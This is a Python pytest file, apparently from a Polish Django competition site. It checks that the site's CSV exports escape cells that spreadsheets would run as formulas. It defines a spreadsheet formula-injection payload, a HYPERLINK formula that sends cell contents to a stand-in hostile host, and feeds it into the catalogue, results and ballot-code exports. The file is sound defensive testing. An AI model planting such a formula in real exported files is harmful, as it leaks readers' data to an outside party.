"""Every CSV the site writes keeps text a spreadsheet would run as a formula inert.

A cell that starts with =, +, -, @, a tab or a carriage return is run by Excel and
LibreOffice as a formula (OWASP "CSV injection"): `=HYPERLINK(...)` becomes a link
that sends the reader's data away. Text cells like that get a leading apostrophe;
numbers the site writes itself stay numbers.
"""

import csv
import io
from decimal import Decimal

import pytest

from competitions.models import Entry
from competitions.services.phases import edition_advance_phase
from core.csvdownload import csv_cell
from tests.competitions.views.test_results import scored_and_voted
from tests.factories import EditionFactory, OrganisationFactory, PracticeFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://zle.example/?d="&A1;"Kliknij")'


def rows_of(content: bytes | str) -> list[dict]:
    text = content.decode("utf-8") if isinstance(content, bytes) else content
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_csv_cell_escapes_text_formulas_but_keeps_numbers():
    assert [csv_cell(v) for v in (HYPERLINK, "+48 1", "-5 sposobów", "@SUM(A1)", "\tx", "\rx")] == [
        "'" + HYPERLINK,
        "'+48 1",
        "'-5 sposobów",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
    ]
    assert [csv_cell(v) for v in (-5, Decimal("-1.50"), 0.5, None, "Gmina")] == [
        "-5",
        "-1.50",
        "0.5",
        "",
        "Gmina",
    ]


def test_catalogue_export_escapes_a_hostile_title_and_organisation(client):
    PracticeFactory(
        title=HYPERLINK,
        summary="-1 dzień",
        lead_organisation=OrganisationFactory(name="@Gmina"),
    )

    response = client.get("/praktyki/eksport.csv")
    row = rows_of(b"".join(response.streaming_content))[0]

    assert (row["title"], row["summary"], row["lead_organisation"]) == (
        "'" + HYPERLINK,
        "'-1 dzień",
        "'@Gmina",
    )


def test_results_csv_escapes_a_hostile_title_distinction_and_organisation(client):
    edition, _category, entries = scored_and_voted()
    practice = entries[0].practice
    practice.title = HYPERLINK
    practice.save(update_fields=["title"])
    practice.lead_organisation.name = "+48 Gmina"
    practice.lead_organisation.save(update_fields=["name"])
    Entry.objects.filter(pk=entries[0].pk).update(distinction="@wyróżnienie")
    edition_advance_phase(edition=edition, actor=None)

    rows = rows_of(client.get(edition.get_absolute_url() + "wyniki.csv").content)

    first = next(row for row in rows if row["miejsce"] == "1")
    assert (first["praktyka"], first["organizacja"], first["wyroznienie"]) == (
        "'" + HYPERLINK,
        "'+48 Gmina",
        "'@wyróżnienie",
    )
    assert (first["glosy"], first["udzial_proc"]) == ("3", "75.00")  # numbers stay numbers


def test_ballot_codes_csv_escapes_hostile_participant_labels(admin_client):
    edition = EditionFactory(phase="jury_review")

    response = admin_client.post(
        "/admin/competitions/edition/",
        {
            "action": "issue_ballots",
            "_selected_action": [edition.pk],
            "apply": "1",
            "labels": f"{HYPERLINK}\r\n-2+3\r\n@Anna Nowak\r\nJan Kowalski\r\n",
        },
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))

    assert rows[0] == ["kod", "opis"]
    assert [row[1] for row in rows[1:]] == [
        "'" + HYPERLINK,
        "'-2+3",
        "'@Anna Nowak",
        "Jan Kowalski",
    ]
    assert "no-store" in response["Cache-Control"]
